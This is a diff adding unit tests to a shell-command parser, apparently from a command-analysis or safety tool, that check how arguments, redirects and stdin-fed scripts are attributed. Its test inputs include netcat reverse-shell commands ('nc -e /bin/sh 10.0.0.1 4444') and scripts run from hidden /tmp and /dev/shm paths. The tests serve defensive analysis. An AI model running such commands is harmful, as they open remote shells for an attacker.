@@ -205,6 +205,29 @@ test('after `a &&` or `a |`, a redirect and its heredoc belong to the last comma
   assert.deepEqual(must(p, 'tee').redirects, ['>/dev/null']);
 });
 
+test('words after a redirect\'s target are the command\'s arguments, as in bash (the parser gives them to the redirect)', () => {
+  const n = run('nc 2>/dev/null -e /bin/sh 10.0.0.1 4444');
+  assert.deepEqual(must(n, 'nc').argv, ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']);
+  assert.deepEqual(must(n, 'nc').redirects, ['>/dev/null']); // (the list leaves out the descriptor)
+  const e = run('echo >a hi >b there && x=1 nc -v >/dev/null -e sh h 1 &');
+  assert.deepEqual(must(e, 'echo').argv, ['echo', 'hi', 'there']);
+  assert.deepEqual(must(e, 'echo').redirects, ['>a', '>b']);
+  assert.deepEqual(must(e, 'nc').argv, ['nc', '-v', '-e', 'sh', 'h', '1']);
+  const p = run("python3 </dev/null -c 'print(1)' | sh");
+  assert.deepEqual(must(p, 'python3').argv, ['python3', '-c', 'print(1)']);
+  assert.equal(must(p, 'python3').inline_code, 'print(1)');
+});
+
+test('a shell or interpreter whose program is its stdin names the redirected file as its script', () => {
+  assert.equal(must(run('sh < /tmp/.x/k.sh'), 'sh').script, '/tmp/.x/k.sh');
+  assert.equal(must(run('cd /tmp/.x && bash -s arg < k.sh'), 'bash').script, '/tmp/.x/k.sh');
+  assert.equal(must(run('python3 -u - < /dev/shm/p.py'), 'python3').script, '/dev/shm/p.py');
+  assert.equal(must(run("sh -c 'cat' < /tmp/.x/in"), 'sh').script, undefined, '-c runs its string, not stdin');
+  assert.equal(must(run('python3 -m http.server < /tmp/.x/in'), 'python3').script, undefined);
+  assert.equal(must(run('bash run.sh < /tmp/.x/in'), 'bash').script, 'run.sh', 'an operand is the script, stdin is data');
+  assert.equal(must(run('cat /tmp/.x/k.sh | sh'), 'sh').script, undefined, 'a pipe names no file');
+});
+
 test('malformed shell never throws: a parse-error note plus best-effort analysis', () => {
   for (const junk of ['execute[ls -la]', 'blocked', 'echo "unterminated', "bash -c 'nc -e sh h 1", '((((((', '$(', '`', '\u0000\u001b[2J\ufffd', 'if then fi done esac', "```bash\nls\n```"]) {
     const a = run(junk);
